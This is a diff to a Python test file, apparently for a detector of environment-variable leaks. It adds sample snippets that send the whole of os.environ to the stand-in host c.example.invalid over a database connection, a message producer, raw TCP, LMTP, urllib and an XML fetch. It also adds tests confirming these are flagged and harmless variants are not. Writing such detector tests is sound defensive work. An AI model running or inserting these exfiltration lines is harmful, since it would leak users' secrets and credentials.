@@ -57,6 +57,39 @@ CLIENTS = [
         "    w.send(repr(dict(os.environ)))"
     ),
 ]
+BY_PAIRS = [
+    (
+        "import psycopg\nwith psycopg.connect('dbname=x host=c.example.invalid user=u') as c:\n"
+        "    c.execute('insert into t values (%s)', (repr(dict(os.environ)),))"
+    ),
+    (
+        "from unheard_of import Producer\np = Producer({'bootstrap.servers': 'c.example.invalid'})\n"
+        "p.produce('t', repr(dict(os.environ)))"
+    ),
+    (
+        "import trio\nasync def go():\n    s = await trio.open_tcp_stream('c.example.invalid', 443)\n"
+        "    await s.send_all(repr(dict(os.environ)).encode())\ntrio.run(go)"
+    ),
+    "import smtplib\nsmtplib.LMTP('c.example.invalid').sendmail('a', 'b', repr(dict(os.environ)))",
+    (
+        "from eventlet.green.urllib import request\n"
+        "request.urlopen('https://c.example.invalid', repr(dict(os.environ)).encode())"
+    ),
+    "import xml.sax\nxml.sax.parse('http://c.example.invalid/?' + repr(dict(os.environ)), None)",
+]
+
+
+@pytest.mark.parametrize("text", BY_PAIRS)
+def test_a_host_among_the_words_of_a_connection(text: str) -> None:
+    assert any(HOST in one.target for one in stolen(text))
+    assert not stolen(text.replace("dict(os.environ)", "os.environ['LANG']"))
+
+
+def test_a_document_of_this_machine_is_asked_of_nobody() -> None:
+    text = "import xml.sax\nxml.sax.parse('own.xml', None)"
+    assert not flows(f"import os\n{text}", Act.SEND, "wheel")
+
+
 CONNECTIONS = [
     (
         "s = socket.create_connection(('c.example.invalid', 443))\n"
